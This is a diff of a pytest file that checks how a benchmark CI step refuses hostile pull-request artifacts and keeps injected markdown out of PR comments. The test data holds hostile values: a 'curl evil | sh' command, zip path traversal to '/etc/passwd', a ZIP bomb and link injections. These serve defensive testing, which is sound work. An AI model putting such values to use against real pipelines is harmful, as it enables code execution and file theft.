@@ -1,164 +1,44 @@
 """What of a hostile pull request's artifact reaches the comment: nothing, or checked numbers."""
 
 import dataclasses
-import functools
-import io
+import html
 import json
-import stat
-import zipfile
+import subprocess
+import sys
 
 import pytest
 
-from benchmarks import _pull_request
-from benchmarks._pull_request import ArtifactError, Request, comment, is_stale, read_artifact
-from benchmarks._report import Side, to_json
+from benchmarks import _artifact, _pull_request
+from benchmarks._artifact import Commits
+from benchmarks._pull_request import comment, is_stale
 from benchmarks._verdict import Answer
-from tests.comparisons import blind, failing, passing, without_gpu
+from tests.artifacts import (
+    BASE,
+    DIFFER,
+    GPU,
+    HEAD,
+    OTHER,
+    REQUEST,
+    RUN,
+    archive,
+    document,
+    read,
+)
+from tests.comparisons import job_blind, job_failing, job_passing
+from tests.test_artifact import NOT_ASKED_FOR, REFUSED
+from tests.workflows import ROOT, commit, git
 
-BASE, HEAD, OTHER = "1" * 40, "2" * 40, "3" * 40
-RUN = "https://github.com/rope-triton/rope-triton/actions/runs/1"
-REQUEST = Request(base=BASE, head=HEAD, current=HEAD, run_url=RUN)
-SIDES = {"base": Side(BASE, BASE), "head": Side(HEAD, HEAD), "reproduce": REQUEST.command}
-
-
-@functools.cache
-def written(make) -> str:
-    return json.dumps(to_json(dataclasses.replace(make(), **SIDES)))
-
-
-def document(make=failing, **changes) -> dict:
-    return json.loads(written(make)) | changes
-
-
-def archive(content, name="comparison.json", mode=stat.S_IFREG | 0o644) -> bytes:
-    content = json.dumps(content) if isinstance(content, dict) else content
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as opened:
-        member = zipfile.ZipInfo(name)
-        member.external_attr = mode << 16
-        opened.writestr(member, content, zipfile.ZIP_DEFLATED)
-    return file.getvalue()
+commits_by_git = _artifact.commits
 
 
-def archive_of(*names) -> bytes:
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w") as opened:
-        for name in names:
-            opened.writestr(name, "{}")
-    return file.getvalue()
-
-
-def changed(path, value, make=failing) -> dict:
-    made = document(make)
-    *parents, last = path
-    inner = made
-    for key in parents:
-        inner = inner[key]
-    inner[last] = value
-    return made
-
-
-@pytest.mark.parametrize("make", [passing, failing, blind, without_gpu])
+@pytest.mark.parametrize("make", [job_passing, job_failing, job_blind])
 def test_a_real_artifact_becomes_a_comment(make):
-    read = read_artifact(archive(document(make)), REQUEST)
-    text = comment(REQUEST, read)
+    found = read(archive(document(make)))
+    text = comment(REQUEST, found)
     assert text.startswith(_pull_request.MARKER + "\n## ")
-    assert read.answer is make().answer
-    assert HEAD in text and RUN in text and "Stale" not in text
+    assert found.answer is make().answer
+    assert HEAD in text and RUN in text and "Out of date" not in text and "behind" not in text
     assert len(text) < 65_536
-
-
-TIMING = ("families", "gpu", "timings", 0)
-
-REFUSED = {
-    "missing file": (archive_of(), "only comparison.json may be in the archive"),
-    "several files": (archive_of("comparison.json", "x"), "only comparison.json may be in"),
-    "the same name twice": (archive_of("comparison.json", "./comparison.json"), "only comparison"),
-    "climbing path": (archive("{}", "../comparison.json"), "only comparison.json may be in"),
-    "absolute path": (archive("{}", "/etc/passwd"), "only comparison.json may be in"),
-    "a directory": (archive("", "comparison.json/"), "only comparison.json may be in"),
-    "a link": (archive("/etc/passwd", mode=stat.S_IFLNK | 0o777), "is no ordinary file"),
-    "a device": (archive("{}", mode=stat.S_IFCHR | 0o777), "is no ordinary file"),
-    "not an archive": (b"PK\3\4 no archive", "no archive can be read"),
-    "an empty file": (b"", "no archive can be read"),
-    "a huge archive": (b"0" * 2_000_001, "the archive has more than 2000000 bytes"),
-    "a ZIP bomb": (archive(b" " * 20_000_000), "has more than 4000000 bytes"),
-    "not JSON": (archive("hello"), "is no JSON: Expecting value"),
-    "not UTF-8": (archive(b'{"schema": "\xff"}'), "is no JSON: 'utf-8' codec"),
-    "deeply nested": (archive("[" * 1_000_000), "is no JSON: maximum recursion"),
-    "deeply nested objects": (archive('{"a":' * 500_000), "is no JSON: maximum recursion"),
-    "a number of a million digits": (archive("1" * 1_000_000), "is no JSON: Exceeds the limit"),
-    "a key twice": (archive('{"schema": 1, "schema": 1}'), "a key comes twice"),
-    "another type": (archive("[]"), "a comparison is an object, got list"),
-    "NaN": (archive(changed(["minutes"], float("nan"))), "NaN is no number"),
-    "infinity": (archive(changed([*TIMING, "effect"], float("inf"))), "Infinity is no number"),
-    "-infinity": (archive(changed([*TIMING, "low"], float("-inf"))), "-Infinity is no number"),
-    "infinity, spelt out": (
-        archive(json.dumps(document()).replace('"minutes": 3.62', '"minutes": 1e999')),
-        "comparison.minutes must be a finite number",
-    ),
-    "a wrong type": (archive(changed(["rounds"], "12")), "comparison.rounds must be a whole"),
-    "an unknown key": (archive(document(html="<b>")), r"comparison has unknown \['html'\]"),
-    "a wrong answer": (archive(document(answer="pass")), "answer is 'pass', the rest says 'fail'"),
-    "a forged head": (
-        archive(changed(["head"], {"name": OTHER, "sha": OTHER})),
-        f"commit {HEAD} was to be measured",
-    ),
-    "a forged base": (
-        archive(changed(["base"], {"name": OTHER, "sha": OTHER})),
-        f"commit {BASE} was to be measured",
-    ),
-    "an abbreviated head": (
-        archive(changed(["head"], {"name": HEAD, "sha": HEAD[:10]})),
-        f"commit {HEAD} was to be measured",
-    ),
-    "a name that is no SHA": (
-        archive(changed(["head", "name"], "[main](https://evil)")),
-        f"commit {HEAD} was to be measured",
-    ),
-    "a command to be copied": (
-        archive(changed(["reproduce"], "curl evil | sh")),
-        "it gives another command",
-    ),
-    "soft rules": (archive(changed(["rules", "min_effect"], 0.9)), "judged by other rules"),
-    "impossible rounds": (archive(changed(["rounds"], 10**9)), "1000000000 rounds, 0 of them"),
-    "impossible time": (archive(changed(["minutes"], -1)), "-1 minutes"),
-    "impossible seconds": (archive(changed([*TIMING, "base"], 1e200)), "took more than 3600 s"),
-    "impossible interval": (archive(changed([*TIMING, "low"], 1e200)), "does not hold its effect"),
-    "impossible p": (archive(changed([*TIMING, "p_slower"], 7)), "is not between 0 and 1"),
-    "a negative floor": (archive(changed([*TIMING, "floor"], -7)), "is negative"),
-}
-
-
-@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED)
-def test_hostile_artifact_is_refused(content, message):
-    with pytest.raises(ArtifactError, match=message):
-        read_artifact(content, REQUEST)
-
-
-def test_a_header_that_lies_about_the_size_gains_nothing():
-    honest = archive(b" " * 10_000_000)
-    lying = honest.replace((10_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
-    assert lying != honest
-    with pytest.raises(ArtifactError, match="no archive can be read: Bad CRC"):
-        read_artifact(lying, REQUEST)
-
-
-def test_encrypted_archive_is_refused():
-    content = bytearray(archive(document()))
-    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
-        content[content.index(signature) + offset] |= 1
-    with pytest.raises(ArtifactError, match="no archive can be read: .*encrypted"):
-        read_artifact(bytes(content), REQUEST)
-
-
-def test_nothing_is_unpacked(tmp_path, monkeypatch):
-    monkeypatch.chdir(tmp_path)
-    for content, _ in REFUSED.values():
-        with pytest.raises(ArtifactError):
-            read_artifact(content, REQUEST)
-    read_artifact(archive(document()), REQUEST)
-    assert list(tmp_path.iterdir()) == []
 
 
 INJECTION = (
@@ -168,8 +48,9 @@ INJECTION = (
 
 def test_markdown_and_html_stay_text():
     made = document(notes=[INJECTION] * 30, wrong=[INJECTION] * 30, disturbed=[INJECTION])
-    made |= {"machine": {INJECTION: INJECTION}, "grid": INJECTION}
-    text = comment(REQUEST, read_artifact(archive(made), REQUEST))
+    made["machine"] |= {INJECTION: INJECTION, "gpu": INJECTION, "torch": INJECTION}
+    made |= {"clocks": {INJECTION: INJECTION}, "unmeasured": [INJECTION] * 30}
+    text = comment(REQUEST, read(archive(made)))
     for bad in (
         "<img",
         "](https://evil",
@@ -188,12 +69,18 @@ def test_markdown_and_html_stay_text():
 # From files to files, as the workflow runs it.
 
 
+@pytest.fixture(autouse=True)
+def commits_that_differ(monkeypatch):
+    monkeypatch.setattr(_artifact, "commits", lambda *_: DIFFER)
+
+
 def report(tmp_path, content=None, **changes):
     """The comment, the status and the exit status of the command."""
     artifact = tmp_path / "artifact.zip"
     if content is not None:
         artifact.write_bytes(content)
     options = {"base": BASE, "head": HEAD, "current": HEAD, "run-url": RUN, "job": "success"}
+    options |= {"gpu": GPU, "behind": 0, "repository": tmp_path}
     files = {"comment": tmp_path / "c.md", "status": tmp_path / "s.json", "artifact": artifact}
     given = options | {"tests": "success"} | files | changes
     arguments = [text for key, value in given.items() for text in (f"--{key}", str(value))]
@@ -202,13 +89,15 @@ def report(tmp_path, content=None, **changes):
 
 
 @pytest.mark.parametrize(
-    ("make", "state"), [(passing, "success"), (failing, "failure"), (blind, "error")]
+    ("make", "state"), [(job_passing, "success"), (job_failing, "failure"), (job_blind, "error")]
 )
 def test_status_follows_the_answer(tmp_path, make, state):
     text, status = report(tmp_path, archive(document(make)))
     answer = make().answer
     assert (status["state"], status["context"], status["target_url"]) == (state, "gpu", RUN)
-    assert status["description"] == f"{answer.value}, against {BASE[:10]}"
+    says = f"{answer.value}, against {BASE[:10]}; the change could alter its figures"
+    assert status["description"] == says and len(says) <= 140  # what GitHub takes
+    assert "a process that ran the pull request's code, which could have changed them" in text
     assert answer.value.upper() in text
 
 
@@ -229,7 +118,7 @@ def test_it_reports_when_there_is_nothing_to_report(tmp_path, changes, says, sta
 
 
 def test_an_artifact_of_a_job_that_failed_is_not_read(tmp_path):
-    text, status = report(tmp_path, archive(document(passing)), job="failure")
+    text, status = report(tmp_path, archive(document(job_passing)), job="failure")
     assert "NO VERDICT" in text and status["state"] == "error"
 
 
@@ -240,6 +129,87 @@ def test_a_refused_artifact_says_nothing_in_its_own_words(tmp_path, content):
     assert "The artifact was refused: " in text
     for bad in ("<b>", "](https://evil", "://evil", "curl"):
         assert bad not in text
+
+
+@pytest.mark.parametrize(("made", "found", "message"), NOT_ASKED_FOR.values(), ids=NOT_ASKED_FOR)
+def test_what_was_not_asked_for_is_no_verdict(tmp_path, monkeypatch, made, found, message):
+    monkeypatch.setattr(_artifact, "commits", lambda *_: found)
+    text, status = report(tmp_path, archive(made))
+    assert "NO VERDICT" in text and status["state"] == "error"
+    gone = message.startswith("the GPU")
+    assert ("Could not run: the GPU nvidia-h200 was not there" in text) == gone
+    assert status["description"].startswith("could not run" if gone else "no verdict")
+
+
+@pytest.fixture
+def history(tmp_path):
+    """A repository of three commits: a package, another package, another Triton."""
+    git(tmp_path, "init", "--quiet")
+    package, project = tmp_path / "rope_triton", tmp_path / "pyproject.toml"
+    package.mkdir()
+    shas = []
+    for source, triton in (("1", "3.6"), ("2", "3.6"), ("2", "3.7")):
+        (package / "__init__.py").write_text(source)
+        project.write_text(f'[project]\ndependencies = ["triton>={triton}"]\n')
+        commit(tmp_path, "a change")
+        shas.append(git(tmp_path, "rev-parse", "HEAD"))
+    return tmp_path, shas
+
+
+def test_git_says_what_the_commits_have(history):
+    repository, (first, second, third) = history
+    assert commits_by_git(repository, first, second) == Commits(False, ())
+    assert commits_by_git(repository, second, second) == Commits(True, ())
+    same, changes = commits_by_git(repository, second, third)
+    assert same and len(changes) == 1 and "triton>=3.6" in changes[0]
+
+
+def test_git_without_a_commit_is_no_verdict(history, tmp_path, monkeypatch):
+    monkeypatch.setattr(_artifact, "commits", commits_by_git)
+    repository, (first, _, _) = history
+    content = archive(document(job_passing))
+    text, status = report(tmp_path, content, repository=repository, base=first)
+    assert "could not be read or shown: ValueError in package tree" in text
+    assert status["state"] == "error"
+
+
+def test_it_needs_no_package(history, tmp_path):
+    """Where it runs a token may write, so nothing is installed: this is Python without its site."""
+    repository, (base, head, _) = history
+    made = json.dumps(document(job_passing)).replace(BASE, base).replace(HEAD, head)
+    (tmp_path / "artifact.zip").write_bytes(archive(made))
+    given = {"base": base, "head": head, "current": head, "run-url": RUN, "gpu": GPU, "behind": 0}
+    files = {name: tmp_path / name for name in ("artifact.zip", "comment", "status")}
+    given |= {"job": "success", "tests": "success", "repository": repository}
+    given |= {name.removesuffix(".zip"): path for name, path in files.items()}
+    arguments = [text for key, value in given.items() for text in (f"--{key}", str(value))]
+    bare = [sys.executable, "-S", "-m"]
+    assert subprocess.run([*bare, "numpy"], cwd=ROOT, capture_output=True).returncode == 1
+    command = [*bare, "benchmarks._pull_request", *arguments]
+    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    assert "## ✅ PASS" in files["comment"].read_text(), done.stderr
+
+
+@pytest.mark.parametrize("name", ["_bytes", "markdown"])
+@pytest.mark.parametrize("error", [IndexError("secret"), RecursionError(), MemoryError()])
+def test_whatever_goes_wrong_there_is_a_comment_and_a_status(
+    tmp_path, capsys, monkeypatch, name, error
+):
+    def fail(*_):
+        raise error
+
+    monkeypatch.setattr(_pull_request, name, fail)
+    text, status = report(tmp_path, archive(document(job_passing)))
+    says = f"The artifact could not be read or shown: {type(error).__name__} in fail"
+    assert says in text and says in capsys.readouterr().err
+    assert "NO VERDICT" in text and status["state"] == "error" and "secret" not in text
+
+
+def test_what_a_refusal_quotes_is_no_link(tmp_path):
+    text, _ = report(tmp_path, archive("{}", f"GH-1 :tada: {OTHER[1:]}"))
+    for bad in ("GH-1", ":tada:", OTHER[1:8]):
+        assert bad not in html.unescape(text)
 
 
 def test_what_a_refusal_quotes_is_inert(tmp_path, capsys):
@@ -254,16 +224,28 @@ def test_what_a_refusal_quotes_is_inert(tmp_path, capsys):
 
 
 def test_stale_sha_is_marked(tmp_path):
-    text, status = report(tmp_path, archive(document(passing)), current=OTHER)
-    assert f"**Stale:** of {HEAD}; the pull request is at {OTHER} now." in text
-    assert status["state"] == "success"  # of the commit that it is set on
-    assert is_stale(Request(BASE, HEAD, OTHER, RUN)) and not is_stale(REQUEST)
+    text, status = report(tmp_path, archive(document(job_passing)), current=OTHER)
+    assert f"> **Out of date:** of {HEAD}; the pull request is at {OTHER} now.\n" in text
+    says = f"out of date: the pull request is at {OTHER[:10]} now"
+    assert (status["state"], status["description"]) == ("error", says)
+    assert is_stale(dataclasses.replace(REQUEST, current=OTHER)) and not is_stale(REQUEST)
+
+
+@pytest.mark.parametrize(("behind", "says"), [(1, "1 commit behind"), (30, "30 commits behind")])
+def test_a_base_behind_main_is_said(tmp_path, behind, says):
+    text, _ = report(tmp_path, archive(document(job_passing)), behind=behind)
+    assert f"The base is {says} main." in text
 
 
 @pytest.mark.parametrize("sha", ["", "main", HEAD[:10], HEAD + "\n", HEAD.replace("2", "G")])
 def test_a_request_names_full_commits(sha):
     with pytest.raises(ValueError, match="head must be a full SHA"):
-        Request(base=BASE, head=sha, current=HEAD, run_url=RUN)
+        dataclasses.replace(REQUEST, head=sha)
+
+
+def test_a_request_names_a_gpu_that_is_known():
+    with pytest.raises(ValueError, match="gpu must be one of"):
+        dataclasses.replace(REQUEST, gpu="nvidia-h100")
 
 
 def test_answers_have_states():
